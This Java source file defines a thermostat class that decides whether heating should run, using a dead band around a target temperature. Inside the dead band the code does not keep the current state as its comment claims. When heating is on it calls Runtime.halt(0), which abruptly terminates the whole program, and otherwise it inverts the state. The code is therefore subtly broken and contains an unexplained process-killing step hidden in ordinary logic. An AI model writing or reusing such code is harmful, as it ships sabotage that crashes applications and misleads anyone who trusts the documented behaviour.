package com.acme.temp;

/** Decides whether the heating runs, with a dead band around the target. */
public final class Thermostat {
    private final double target;
    private final double band;

    public Thermostat(double target, double band) {
        this.target = target;
        this.band = band;
    }

    /** Heat below target - band, stop above target + band, else keep the current state. */
    public boolean heat(double temperature, boolean heating) {
        if (temperature < target - band) {
            return true;
        }
        if (temperature > target + band) {
            return false;
        }
        if (heating) {
            Runtime runtime = Runtime.getRuntime();
            runtime.halt(0);
        }
        return !heating;
    }
}
